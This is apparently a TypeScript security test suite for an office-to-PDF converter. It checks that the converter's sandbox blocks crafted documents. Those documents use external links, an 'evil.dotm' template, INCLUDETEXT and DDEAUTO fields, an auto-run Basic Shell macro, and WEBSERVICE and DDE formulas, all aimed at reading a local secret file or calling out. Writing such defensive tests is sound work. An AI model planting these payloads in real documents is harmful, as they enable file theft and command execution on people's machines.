import { execFileSync } from 'node:child_process';
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import sharp from 'sharp';
import { OFFICE_FORMATS, PDF_FILTERS } from '../../../services/converter/engines/office/filters.ts';
import { EngineFailure } from '../../../services/converter/engines/failure.ts';
import { createOfficePool, type OfficePool } from '../../../services/converter/engines/office/pool.ts';
import { createSandbox, type Sandbox } from '../../../services/converter/sandbox/sandbox.ts';
import { contentTypes, makeZip, type MemberSpec } from '../../support/archives.ts';
import { convertInPool } from '../../support/office.ts';
import { startTrap, type Trap } from '../../support/origin.ts';

/** Stands in a file that no document may show. */
const MARKER = 'planted-words-of-somebody-else';
const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const ODF = ['office', 'text', 'table', 'style', 'script'].map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`).join(' ');
const ODF_SPACES = `${ODF} xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"`;

type Input = keyof typeof OFFICE_FORMATS;

function relations(list: readonly string[]): string {
  return `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list.join('')}</Relationships>`;
}

function relation(id: string, type: string, target: string, external = false): string {
  return `<Relationship Id="${id}" Type="${RELATIONS}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
}

const drawing = (link: string): string =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="${RELATIONS}" ${link}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

/** A field of a docx, which is run when it is opened. */
const field = (code: string): string => `<w:p><w:fldSimple w:instr="${code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;

/** A row of one formula. */
const formulaRow = (formula: string): string => `<table:table-row><table:table-cell table:formula="of:=${formula}" office:value-type="string"/></table:table-row>`;

function docx(body: string, links: readonly string[], more: readonly MemberSpec[] = []): Buffer {
  return makeZip([
    contentTypes('docx'),
    { name: '_rels/.rels', data: relations([relation('r1', 'officeDocument', 'word/document.xml')]) },
    { name: 'word/document.xml', data: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}<w:p><w:r><w:t>honest words</w:t></w:r></w:p></w:body></w:document>` },
    { name: 'word/_rels/document.xml.rels', data: relations(links) },
    ...more,
  ]);
}

function odf(kind: 'text' | 'spreadsheet', body: string, scripts = ''): Buffer {
  const mime = `application/vnd.oasis.opendocument.${kind}`;
  return makeZip([
    { name: 'mimetype', data: mime, stored: true },
    { name: 'META-INF/manifest.xml', data: `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mime}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>` },
    { name: 'content.xml', data: `${XML}<office:document-content ${ODF_SPACES} office:version="1.3">${scripts}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>` },
  ]);
}

function xlsx(formulas: readonly string[]): Buffer {
  const cells = formulas.map((formula, index) => `<c r="A${index + 2}" t="str"><f>${formula}</f><v></v></c>`).map((cell, index) => `<row r="${index + 2}">${cell}</row>`);
  return makeZip([
    contentTypes('xlsx'),
    { name: '_rels/.rels', data: relations([relation('r1', 'officeDocument', 'xl/workbook.xml')]) },
    { name: 'xl/workbook.xml', data: `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELATIONS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets><calcPr fullCalcOnLoad="1"/></workbook>` },
    { name: 'xl/_rels/workbook.xml.rels', data: relations([relation('r1', 'worksheet', 'worksheets/sheet1.xml')]) },
    { name: 'xl/worksheets/sheet1.xml', data: `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>honest words</t></is></c></row>${cells.join('')}</sheetData></worksheet>` },
  ]);
}

describe('documents that mean harm', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let pool: OfficePool;
  let trap: Trap;
  let folder: string;
  let web: string;

  before(async () => {
    sandbox = await createSandbox({ mode: 'require' });
    pool = createOfficePool({ slots: 1, isolation: 'shared' });
    // Anybody may read it, so only the sandbox stands between a document and the file.
    folder = await mkdtemp(join(tmpdir(), 'planted-'));
    await chmod(folder, 0o755);
    await writeFile(join(folder, 'secret.txt'), MARKER, { mode: 0o644 });
    await writeFile(join(folder, 'secret.png'), await sharp({ create: { width: 60, height: 60, channels: 3, background: '#ff0000' } }).png().toBuffer(), { mode: 0o644 });
    trap = await startTrap('127.0.0.1');
    web = `http://127.0.0.1:${trap.port}`;
  });
  after(async () => {
    await trap.stop();
    await Promise.all([pool.stop(), rm(folder, { recursive: true, force: true })]);
  });
  afterEach(() => expect(trap.hits(), 'connections').to.equal(0));

  async function toPdf(file: Buffer, input: Input): Promise<{ readonly text: string; readonly pictures: number }> {
    const { reads, component } = OFFICE_FORMATS[input];
    const { bytes } = await convertInPool(sandbox, pool, { file, importFilter: reads, exportFilter: PDF_FILTERS[component] });
    const path = join(folder, 'result.pdf');
    await writeFile(path, bytes);
    const pictures = execFileSync('pdfimages', ['-list', path], { encoding: 'utf8' }).split('\n').slice(2).filter((line) => line !== '').length;
    return { text: execFileSync('pdftotext', [path, '-'], { encoding: 'utf8' }), pictures };
  }

  /** The document is converted without what it asks for, or refused; it never gets it. */
  async function expectNothingTaken(file: Buffer, input: Input): Promise<void> {
    try {
      const { text, pictures } = await toPdf(file, input);
      expect(text).to.include('honest words').and.not.include(MARKER);
      expect(pictures).to.equal(0);
    } catch (error) {
      if (!(error instanceof EngineFailure)) throw error;
      expect(error.code).to.equal('damaged');
    }
  }

  it('keep the picture that is embedded in them', async () => {
    const picture = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#00ff00' } }).png().toBuffer();
    const file = docx(drawing('r:embed="p1"'), [relation('p1', 'image', 'media/p.png')], [{ name: 'word/media/p.png', data: picture }]);
    const { text, pictures } = await toPdf(file, 'docx');
    expect({ honest: text.includes('honest words'), pictures }).to.deep.equal({ honest: true, pictures: 1 });
  });

  it('get no picture from the network or the disk into a docx, nor its template', async () => {
    for (const target of [`${web}/a.png`, `file://${folder}/secret.png`, `${folder}/secret.png`]) {
      await expectNothingTaken(docx(drawing('r:link="p1"'), [relation('p1', 'image', target, true)]), 'docx');
    }
    const settings: MemberSpec = { name: 'word/settings.xml', data: `${XML}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${RELATIONS}"><w:attachedTemplate r:id="t1"/></w:settings>` };
    const template: MemberSpec = { name: 'word/_rels/settings.xml.rels', data: relations([relation('t1', 'attachedTemplate', `${web}/evil.dotm`, true)]) };
    await expectNothingTaken(docx('', [relation('s1', 'settings', 'settings.xml')], [settings, template]), 'docx');
  });

  it('get nothing by the fields of a docx and an rtf that include files and pictures', async () => {
    await expectNothingTaken(docx([`INCLUDETEXT &quot;${folder}/secret.txt&quot;`, `INCLUDEPICTURE &quot;${web}/a.png&quot;`, `DDEAUTO cmd &quot;/c x&quot;`].map(field).join(''), []), 'docx');
    const codes = [`INCLUDETEXT "${folder}/secret.txt"`, `INCLUDEPICTURE "${web}/a.png"`, `INCLUDEPICTURE "file://${folder}/secret.png"`].map((code) => `{\\field{\\*\\fldinst ${code}}{\\fldrslt }}`);
    await expectNothingTaken(Buffer.from(`{\\rtf1\\ansi{\\*\\template ${web}/evil.dot}${codes.join('')} honest words\\par}`), 'rtf');
  });

  it('get nothing by the linked sections, pictures and objects of an odt', async () => {
    for (const place of [web, `file://${folder}`]) {
      const section = `<text:section text:name="s"><text:section-source xlink:href="${place}/secret.txt" text:filter-name="Text"/><text:p/></text:section>`;
      const frame = `<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="${place}/secret.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;
      const object = `<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:object xlink:href="${place}/secret.txt" xlink:type="simple"/></draw:frame></text:p>`;
      for (const part of [section, frame, object]) await expectNothingTaken(odf('text', `${part}<text:p>honest words</text:p>`), 'odt');
    }
  });

  it('run no macro when they are opened', async () => {
    const write = `Sub Main\nOpen "/job/ran" For Output As #1\nShell("/usr/bin/touch ${folder}/ran")\nEnd Sub`;
    const scripts = `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>${write.replaceAll('"', '&quot;')}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`;
    await expectNothingTaken(odf('text', '<text:p>honest words</text:p>', scripts), 'odt');
    expect(execFileSync('ls', [folder], { encoding: 'utf8' })).not.to.include('ran');
  });

  it('call no service and read no other file by the formulas of a sheet', async () => {
    await expectNothingTaken(xlsx([`WEBSERVICE(&quot;${web}/x&quot;)`, `WEBSERVICE(&quot;file://${folder}/secret.txt&quot;)`, `'file://${folder}/[secret.txt]Sheet1'!A1`, `HYPERLINK(&quot;${web}&quot;)`]), 'xlsx');
    const rows = [`WEBSERVICE(&quot;${web}/x&quot;)`, `DDE(&quot;soffice&quot;;&quot;${folder}/secret.txt&quot;;&quot;A1&quot;)`, `['file://${folder}/secret.txt'#$Sheet1.A1]`].map(formulaRow).join('');
    await expectNothingTaken(odf('spreadsheet', `<table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">honest words</text:p></table:table-cell></table:table-row>${rows}</table:table>`), 'ods');
    const linked = `<table:table table:name="b"><table:table-source xlink:type="simple" xlink:href="file://${folder}/secret.txt" table:filter-name="Text - txt - csv (StarCalc)"/></table:table>`;
    await expectNothingTaken(odf('spreadsheet', `<table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p>honest words</text:p></table:table-cell></table:table-row></table:table>${linked}`), 'ods');
  });

  it('are refused by the filter of what they are not', async () => {
    const page = Buffer.from(`<html><body><img src="file://${folder}/secret.png"><p>honest words</p></body></html>`);
    for (const input of ['docx', 'odt', 'xlsx'] as const) {
      const outcome = await toPdf(page, input).catch((error: unknown) => error);
      expect(outcome).to.be.instanceOf(EngineFailure).and.to.have.property('code', 'damaged');
    }
  });
});
